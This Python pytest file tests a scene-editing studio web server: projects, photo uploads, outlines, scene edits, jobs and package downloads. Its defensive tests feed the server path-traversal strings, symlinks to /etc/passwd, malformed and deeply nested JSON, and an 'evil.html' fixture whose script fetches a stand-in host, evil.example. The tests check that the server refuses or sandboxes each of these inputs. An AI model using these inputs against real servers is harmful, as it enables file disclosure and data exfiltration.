"""What pages of the studio may ask: projects, files, outlines, edited scenes and jobs, with what no page would send."""

from __future__ import annotations

import io
import json
import os
import resource
import signal
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import pytest

pytest.importorskip("fastapi", reason="the extra studio is not installed")

from PIL import Image

import forked
from f3sr.mask_page.loopback_server import json_reply
from f3sr.runtime import subprocesses
from f3sr.scene_package.package import read_package
from f3sr.studio import service_clients
from resting_boxes import resting_boxes
from studio_server import StudioServer, studio
from waiting import soon


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StudioServer]:
    """Processes of its projects are forked, but for those of a test that starts them as a user's server does."""
    folder = tmp_path_factory.mktemp("studio")
    with pytest.MonkeyPatch.context() as patch, studio(folder) as served:
        patch.setattr(service_clients, "started", forked.started)
        yield served


@pytest.fixture(scope="module")
def scene(server: StudioServer, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The address of a project with a scene."""
    package = resting_boxes(tmp_path_factory.mktemp("packages") / "table")
    status, made = server.post("projects/folder", {"folder": str(package.folder)})
    assert status == 200
    return f"p/{made['id']}/"


def photo_bytes(kind: str = "PNG") -> bytes:
    """A red thing on a grey table."""
    picture = np.full((120, 160, 3), 150, np.uint8)
    picture += np.random.default_rng(1).integers(0, 12, picture.shape, np.uint8)
    picture[40:90, 50:110] = (200, 30, 30)
    stream = io.BytesIO()
    Image.fromarray(picture).save(stream, kind)
    return stream.getvalue()


# --- projects -------------------------------------------------------------------------------------------------------


def test_a_photo_becomes_a_project_and_goes(server: StudioServer) -> None:
    status, made = server.post("projects/photo?name=My%20table%20%231.png", data=photo_bytes())
    assert status == 200 and made["id"].startswith("my-table-1-")
    place = f"p/{made['id']}/"
    listed = {p["id"]: p for p in server.state("projects")["projects"]}
    assert listed[made["id"]]["name"] == "My table #1" and listed[made["id"]]["state"] == "photo"
    state = server.state(f"{place}state")
    assert state["photo"] and not state["outlined"] and not state["scene"] and state["jobs"] == []
    for name in ("photo.jpg", "thumb.jpg", "masks.jpg"):
        status, body, answer = server.get(f"{place}{name}")
        assert status == 200 and Image.open(io.BytesIO(body)).size == (160, 120), name
        assert answer.headers["Content-Type"] == "image/jpeg"
    assert server.post(f"{place}delete")[0] == 200
    assert server.get(f"{place}state")[0] == 422 and not list((server.workspace.folder / "projects").glob(".*"))


@pytest.mark.parametrize(
    "data",
    [b"", b"\x89PNG", b"\xff\xd8\xff", b"GIF89a....", b"<svg/>", photo_bytes()[:-200], b"\x89PNG" + bytes(5000)],
)
def test_what_is_no_photo_is_refused_in_one_line_and_leaves_nothing(server: StudioServer, data: bytes) -> None:
    before = sorted((server.workspace.folder / "projects").iterdir())
    status, told = server.post("projects/photo?name=x.png", data=data)
    assert status == 422 and "accepted: " in told["problem"] and "\n" not in told["problem"]
    assert str(server.workspace.folder) not in told["problem"]
    assert sorted((server.workspace.folder / "projects").iterdir()) == before


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd.png", "a/b\\c.png", "\u202egnp.exe", "x" * 5000, "%00", "", "....", "a b.png"],
)
def test_a_hostile_name_is_a_name_only(server: StudioServer, name: str) -> None:
    from urllib.parse import quote

    status, made = server.post(f"projects/photo?name={quote(name, safe='')}", data=photo_bytes())
    assert status == 200
    project = server.workspace.project(made["id"])
    assert project.folder.parent == server.workspace.folder / "projects" and len(project.name) <= 100
    assert not any(ord(c) < 32 for c in project.name) and "\u202e" not in project.name
    server.post(f"p/{made['id']}/delete")


@pytest.mark.parametrize("id", ["..", ".", "%2e%2e", "..%2f..", "a%00b", "A", "a_b", "x" * 65, "-", "a--b", "nobody"])
def test_what_is_no_project_is_told_so(server: StudioServer, id: str) -> None:
    for path in (f"p/{id}/state", f"p/{id}/", f"p/{id}/photo.jpg"):
        status, answer, _ = server.get(path)
        assert status in (404, 422) and b"Traceback" not in answer
    assert server.post(f"p/{id}/delete")[0] in (404, 422)
    assert server.workspace.listed() is not None


def test_a_folder_is_copied_and_nothing_else_is_taken(server: StudioServer, tmp_path: Path) -> None:
    for wrong in (tmp_path / "nowhere", tmp_path, server.workspace.folder, Path("/")):
        status, told = server.post("projects/folder", {"folder": str(wrong)})
        assert status == 422 and "accepted: " in told["problem"], wrong
    given = tmp_path / "given"
    (given / "masks").mkdir(parents=True)
    (given / "image.png").write_bytes(photo_bytes())
    (given / "secret.png").symlink_to("/etc/passwd")
    status, made = server.post("projects/folder", {"folder": str(given)})
    inside = server.workspace.project(made["id"]).input
    assert status == 200 and sorted(p.name for p in inside.iterdir()) == ["image.png", "masks"]


def test_a_damaged_project_hides_no_other(server: StudioServer, scene: str) -> None:
    bad = server.workspace.folder / "projects" / "broken-1"
    bad.mkdir()
    (bad / "project.json").write_text('{"version": 1, "name": 7}')
    listed = {p["id"]: p for p in server.state("projects")["projects"]}
    assert listed["broken-1"]["state"] == "damaged" and "accepted: " in listed["broken-1"]["problem"]
    assert any(p["state"] == "scene" for p in listed.values())
    assert server.post("p/broken-1/delete")[0] == 200 and not bad.exists()


# --- files ------------------------------------------------------------------------------------------------------------


def test_files_of_packages_have_no_rights_and_no_others_are_shown(server: StudioServer, scene: str) -> None:
    id, word = scene.split("/")[1], server.secrets.framed
    project = server.workspace.project(id)
    (project.package / "evil.html").write_text("<script>fetch('/')</script>")
    (project.package / "link.json").symlink_to("/etc/passwd")
    status, _, answer = server.get(f"framed/{id}/package/evil.html", word=word)
    assert status == 200 and answer.headers["Content-Security-Policy"].startswith("sandbox allow-scripts")
    assert "allow-same-origin" not in answer.headers["Content-Security-Policy"]
    wrong = ["project.json", "package/../project.json", "package/link.json", "package", "package/", "jobs/x", ""]
    wrong += ["package/%2e%2e/project.json", "package/%00", "/etc/passwd", "package//etc/passwd", "input/image.png"]
    for path in wrong:
        status, body, _ = server.get(f"framed/{id}/{path}", word=word)
        assert status in (404, 422) and b"root:" not in body and b'"version"' not in body, path
    (project.package / "evil.html").unlink()
    (project.package / "link.json").unlink()


def test_a_package_is_downloaded_as_it_is(server: StudioServer, scene: str) -> None:
    status, body, answer = server.get(f"{scene}package.zip")
    assert status == 200 and answer.headers["Content-Disposition"] == 'attachment; filename="table_scene.zip"'
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert archive.testzip() is None
        package = server.workspace.project(scene.split("/")[1]).package
        names = {p.relative_to(package).as_posix() for p in package.rglob("*") if p.is_file()}
        assert set(archive.namelist()) == names
        assert archive.read("scene.json") == (package / "scene.json").read_bytes()
    for name in ("export", "other", "..%2f..%2fetc"):
        assert server.get(f"{scene}{name}.zip")[0] in (404, 422)


# --- outlines ---------------------------------------------------------------------------------------------------------


def test_boxes_become_masks_by_way_of_the_project_s_process(server: StudioServer) -> None:
    _, made = server.post("projects/photo?name=red.png", data=photo_bytes())
    place = f"p/{made['id']}/"
    status, page, answer = server.get(f"{place}outline/")
    assert status == 200 and b"Outline the objects in <bdi>red</bdi>" in page
    assert answer.headers["Content-Security-Policy"] == "frame-ancestors 'self'"
    status, opened = server.post(f"{place}outline/open")
    assert status == 200 and opened["photo"]["width"] == 160
    box = {"box": [48, 38, 112, 92], "inside": [], "outside": [], "label": "red thing"}
    selection = opened["selection"] | {"prompts": [box]}
    asked = {"page": opened["page"], "revision": 1, "selection": selection}
    status, told = server.post(f"{place}outline/outline", asked)
    assert status == 200 and len(told["masks"]) == 1, told
    assert server.post(f"{place}outline/segmenter", {"segmenter": "nobody"})[0] == 422
    assert server.post(f"{place}outline/segmenter", {"segmenter": "grabcut"})[0] == 200
    assert server.state(f"{place}state")["segmenter"] == "grabcut"
    opened = server.post(f"{place}outline/open")[1]  # a session of its own, with what was drawn
    assert opened["selection"]["prompts"][0]["label"] == "red thing"
    asked = {"page": opened["page"], "revision": 1, "selection": selection}
    status, told = server.post(f"{place}outline/save", asked)
    assert status == 200, told
    state = server.state(f"{place}state")
    assert state["outlined"] and state["masks"] == 1
    status, opened = server.post(f"{place}outline/open")  # the page again: it begins with what was saved
    assert server.get(f"{place}outline/")[0] == 200
    status, opened = server.post(f"{place}outline/open")
    assert status == 200 and opened["selection"]["prompts"][0]["label"] == "red thing"
    server.post(f"{place}delete")


# --- scenes and edits -------------------------------------------------------------------------------------------------


def test_a_scene_is_shown_edited_undone_and_written(server: StudioServer, scene: str) -> None:
    view, before = server.state(f"{scene}scene/view"), server.state(f"{scene}scene/state")
    assert [o["id"] for o in view["objects"]] == [0, 1, 2, 3] == view["masks"]
    labels = Image.open(io.BytesIO(server.get(f"{scene}scene/labels.png")[1]))
    assert set(np.unique(np.asarray(labels)[..., 0])) == {0, 1, 2, 3, 4}
    assert not before["undo"] and not before["edits"]

    status, after = server.post(f"{scene}scene/edits", {"edit": {"kind": "move", "id": 2, "by": [0.05, 0.0, 0.0]}})
    assert status == 200 and after["undo"] and after["measures"]["N_cross"] == 0
    poses = [{o["id"]: o["pose"] for o in state["objects"]} for state in (before, after)]
    assert poses[1][2][3] - poses[0][2][3] == pytest.approx(0.05, abs=2e-3)
    assert all(poses[0][k] == poses[1][k] for k in (0, 1, 3))
    assert after["edits"] == ["brick: moved by 5.0, 0.0, 0.0 cm along x, y and z"]

    project = server.workspace.project(scene.split("/")[1])
    assert json.loads(project.edits.read_text())["edits"][0]["by"] == [0.05, 0.0, 0.0]
    status, undone = server.post(f"{scene}scene/undo")
    assert status == 200 and undone["redo"]
    assert [o["pose"] for o in undone["objects"]] == [o["pose"] for o in before["objects"]]
    status, redone = server.post(f"{scene}scene/redo")
    assert redone["objects"] == after["objects"]
    server.clients.call(project.folder, "saved")
    assert read_package(project.package).scene[2].T_world_object[0, 3] == pytest.approx(poses[1][2][3], abs=1e-9)


def test_two_pages_edit_one_scene_one_after_another(server: StudioServer, scene: str) -> None:
    edits = [{"kind": "label", "id": k, "to": f"thing {k}"} for k in range(4)]
    with ThreadPoolExecutor(4) as pages:
        answers = list(pages.map(lambda e: server.post(f"{scene}scene/edits", {"edit": e}), edits))
    assert [status for status, _ in answers] == [200] * 4
    state = server.state(f"{scene}scene/state")
    assert {o["label"] for o in state["objects"]} == {f"thing {k}" for k in range(4)} and len(state["edits"]) >= 4
    for _ in edits:
        server.post(f"{scene}scene/undo")


def test_edits_survive_the_process_that_made_them(
    server: StudioServer, scene: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    status, told = server.post(f"{scene}scene/edits", {"edit": {"kind": "label", "id": 3, "to": "tower"}})
    assert status == 200
    project = server.workspace.project(scene.split("/")[1])
    process = server.clients._of(project.folder)._process
    monkeypatch.setattr(service_clients, "started", subprocesses.started)
    os.kill(process.pid, signal.SIGKILL)
    assert soon(lambda: process.poll() is not None)
    again = server.state(f"{scene}scene/state")
    assert again["edits"] == told["edits"] and {o["label"] for o in again["objects"]} >= {"tower"}


@pytest.mark.parametrize(
    "edit",
    [
        {},
        {"kind": "move", "id": 2},
        {"kind": "move", "id": 99, "by": [0, 0, 0]},
        {"kind": "move", "id": "2", "by": [0.1, 0.0, 0.0]},
        {"kind": "move", "id": 2, "by": [1e9, 0.0, 0.0]},
        {"kind": "move", "id": 2, "by": [0.1, 0.0]},
        {"kind": "explode", "id": 2},
        {"kind": "turn", "id": 2, "axis": [0.0, 0.0, 0.0], "degrees": 5.0},
        {"kind": "scale", "id": 2, "factor": 0.0},
        {"kind": "material", "id": 2, "mass": -1.0},
        {"kind": "label", "id": 2, "to": ""},
        {"kind": "label", "id": 2, "to": "x" * 10_000},
        {"kind": "support", "id": 2, "on": 2},
        {"kind": "delete", "id": 2, "file": "/etc/passwd"},
    ],
)
def test_an_edit_that_no_page_sends_changes_nothing(server: StudioServer, scene: str, edit: dict[str, object]) -> None:
    before = server.state(f"{scene}scene/state")
    status, told = server.post(f"{scene}scene/edits", {"edit": edit})
    assert status in (409, 422) and "\n" not in told["problem"]
    assert server.state(f"{scene}scene/state") == before


def test_goals_are_understood_before_they_are_played(server: StudioServer, scene: str) -> None:
    suggestions = server.state(f"{scene}goals/menu")["suggestions"]
    assert suggestions and len(set(suggestions)) == len(suggestions) <= 8
    for goal in suggestions:
        status, told = server.post(f"{scene}goals/understand", {"goal": goal})
        assert status == 200 and "refused" not in told and told["interpretation"]
    for goal in ("sing a song", "", "push the dragon", "<script>alert(1)</script>", "x" * 2000):
        assert "refused" in server.post(f"{scene}goals/understand", {"goal": goal})[1]
    assert server.post(f"{scene}goals/understand", {"goal": "x" * 2001})[0] == 422


# --- jobs -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "options"),
    [
        ("format", {}),
        ("reconstruct", {"geometry": 7}),
        ("reconstruct", {"out": "/etc"}),
        ("reconstruct", {"focal": -1}),
        ("play", {}),
        ("play", {"goal": ""}),
        ("play", {"goal": "push", "slow": 1000}),
        ("vary", {"rollout": "../1"}),
        ("vary", {"rollout": 1, "speed": 99}),
        ("export", {"formats": []}),
        ("export", {"formats": "usd"}),
        ("certify", {"engines": ["x"] * 1000}),
    ],
)
def test_a_job_that_no_page_asks_for_is_not_begun(
    server: StudioServer, scene: str, kind: str, options: dict[str, object]
) -> None:
    status, told = server.post(f"{scene}jobs", {"kind": kind, "options": options})
    assert status == 422 and "accepted: " in told["problem"]
    assert server.state(f"{scene}state")["jobs"] == []


def test_no_job_begins_on_a_package_that_lacks_edits(
    server: StudioServer, scene: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A full disk may keep the package from being written; the goal would be played in an older scene."""
    full = json_reply({"problem": "the disk is full"}, status=409)
    monkeypatch.setattr(server.clients, "call", lambda folder, name, body=b"": full)
    for status, told in (
        server.post(f"{scene}jobs", {"kind": "play", "options": {"goal": "push the brick"}}),
        (server.get(f"{scene}package.zip")[0], json.loads(server.get(f"{scene}package.zip")[1])),
    ):
        assert (status, told) == (409, {"problem": "the disk is full"})
    assert server.state(f"{scene}state")["jobs"] == []


def test_requests_of_another_shape_get_one_line(server: StudioServer, scene: str) -> None:
    for value in ([], {"goal": 7}, {"goal": "x", "more": 1}, "x", None):
        status, told = server.post(f"{scene}goals/understand", value)
        assert status == 422 and "\n" not in told["problem"] and "Traceback" not in told["problem"]
    assert server.get(f"{scene}jobs/nothing")[0] == 422
    assert server.get(f"{scene}jobs/0000000000000-00000000?after=x")[0] == 422
    assert server.get(f"{scene}jobs/0000000000000-00000000/pictures/..%2fjob.json")[0] in (404, 422)
    assert server.get(f"{scene}rollouts/1/film.png")[0] == 422
    assert server.get("pages/..%2f..%2fstudio_app.py")[0] in (404, 422)
    assert server.get("docs")[0] == 404 and server.get("openapi.json")[0] == 404


# --- attacks ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("folder", ["~nobody-at-all/x", "a" * 3000, "/" + "a/" * 1900, "~", "\x7f", " "])
def test_no_name_of_a_folder_is_more_than_a_line(server: StudioServer, folder: str) -> None:
    status, told = server.post("projects/folder", {"folder": folder})
    assert status == 422 and "; accepted: " in told["problem"]


DEEP = '{"a":' * 900 + "1" + "}" * 900
NO_EDITS = {
    "a lone surrogate": '{"edit": {"kind": "label", "id": 2, "to": "\\ud800"}}',
    "a key of one": '{"edit": {"kind": "label", "id": 2, "to": "a", "\\ud800": 1}}',
    "an id that is a list": '{"edit": {"kind": "fix", "id": []}}',
    "an id that is an object": '{"edit": {"kind": "fix", "id": {}}}',
    "an id that is true": '{"edit": {"kind": "fix", "id": true}}',
    "an id of many digits": '{"edit": {"kind": "fix", "id": %s}}' % ("9" * 4200),
    "no number": '{"edit": {"kind": "move", "id": 2, "by": [NaN, 0, 0]}}',
    "no end": '{"edit": {"kind": "move", "id": 2, "by": [1e999, 0, 0]}}',
    "a deep id": f'{{"edit": {{"kind": "fix", "id": {DEEP}}}}}',
    "a deep edit": '{"edit": %s}' % ('{"a":' * 50_000),
    "no JSON": "\0",
}


@pytest.mark.parametrize("name", NO_EDITS)
def test_no_edit_is_unforeseen(server: StudioServer, scene: str, name: str) -> None:
    before = server.state(f"{scene}scene/state")
    status, told = server.post_text(f"{scene}scene/edits", NO_EDITS[name])
    assert status in (400, 422) and list(told) == ["problem"] and "unforeseen" not in told["problem"]
    assert server.state(f"{scene}scene/state") == before


def test_what_has_no_scene_says_so(server: StudioServer) -> None:
    _, made = server.post("projects/example")
    place = f"p/{made['id']}/"
    for path in ("scene/view", "scene/state", "scene/labels.png", "goals/menu"):
        status, body, _ = server.get(f"{place}{path}")
        assert status == 422 and json.loads(body)["problem"].startswith("the project: found no scene"), body
    assert server.post(f"{place}scene/undo")[0] == 422
    status, body, _ = server.get(f"{place}nowhere")
    assert status == 404 and json.loads(body) == {"problem": "Not Found"}
    server.post(f"{place}delete")


def test_a_package_is_downloaded_with_its_last_edit(server: StudioServer, scene: str) -> None:
    assert server.post(f"{scene}scene/edits", {"edit": {"kind": "label", "id": 1, "to": "the last word"}})[0] == 200
    _, body, _ = server.get(f"{scene}package.zip")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert "the last word" in archive.read("scene.json").decode()


def test_an_edit_that_a_full_disk_does_not_keep_is_not_made(server: StudioServer, tmp_path: Path) -> None:
    _, made = server.post("projects/folder", {"folder": str(resting_boxes(tmp_path / "table").folder)})
    place, project = f"p/{made['id']}/", server.workspace.project(made["id"])
    label = {"edit": {"kind": "label", "id": 2, "to": "kept"}}
    assert server.post(f"{place}scene/edits", label)[0] == 200
    kept, before = project.edits.read_bytes(), server.state(f"{place}scene/state")
    pid = server.clients._of(project.folder)._process.pid
    room = resource.prlimit(pid, resource.RLIMIT_FSIZE, (10, resource.RLIM_INFINITY))
    for path, value in (("edits", {"edit": {"kind": "label", "id": 2, "to": "lost"}}), ("undo", {})):
        status, told = server.post(f"{place}scene/{path}", value)
        assert status == 409 and "cannot be written" in told["problem"]
        now = server.state(f"{place}scene/state")
        assert now["edits"] == before["edits"] and now["objects"] == before["objects"] and now["undo"]
        assert project.edits.read_bytes() == kept
    resource.prlimit(pid, resource.RLIMIT_FSIZE, room)
    assert server.post(f"{place}scene/undo")[0] == 200 and json.loads(project.edits.read_bytes())["edits"] == []
    server.post(f"{place}delete")


def test_a_project_that_does_not_answer_takes_no_others_place(
    server: StudioServer, scene: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its page is opened again and again; the server has 40 threads."""
    project = server.workspace.project(scene.split("/")[1])
    server.clients.call(project.folder, "saved")
    pid = server.clients._of(project.folder)._process.pid
    os.kill(pid, signal.SIGSTOP)
    try:
        with ThreadPoolExecutor(60) as asking:
            asked = [asking.submit(server.get, f"{scene}scene/state") for _ in range(60)]
            assert soon(lambda: sum(one.done() for one in asked) >= 60 - service_clients.MOST_CALLS, 10)
            assert server.get("")[0] == 200
            os.kill(pid, signal.SIGCONT)
            answers = [one.result()[:2] for one in asked]
    finally:
        os.kill(pid, signal.SIGCONT)
    assert {status for status, _ in answers} == {200, 409}
    assert all(b"try again" in body for status, body in answers if status == 409)


@pytest.mark.slow
def test_a_package_s_page_cannot_tell_others_what_it_sees(server: StudioServer, scene: str) -> None:
    project = server.workspace.project(scene.split("/")[1])
    (project.package / "evil.html").write_text("<script>fetch('https://evil.example/')</script>")
    place = f"framed/{project.id}/package/evil.html"
    policy = server.get(place, word=server.secrets.framed)[2].headers["Content-Security-Policy"]
    allowed = dict(one.strip().partition(" ")[::2] for one in policy.split(";"))
    assert allowed["default-src"] == "'none'" and "connect-src" not in allowed and allowed["form-action"] == "'none'"
    assert not any(":" in word for kind, words in allowed.items() for word in words.split() if word != "data:")
    status, _, _ = server.get(place)  # the word of the studio's own pages: a script could read it from its address
    assert status == 404
    (project.package / "evil.html").unlink()
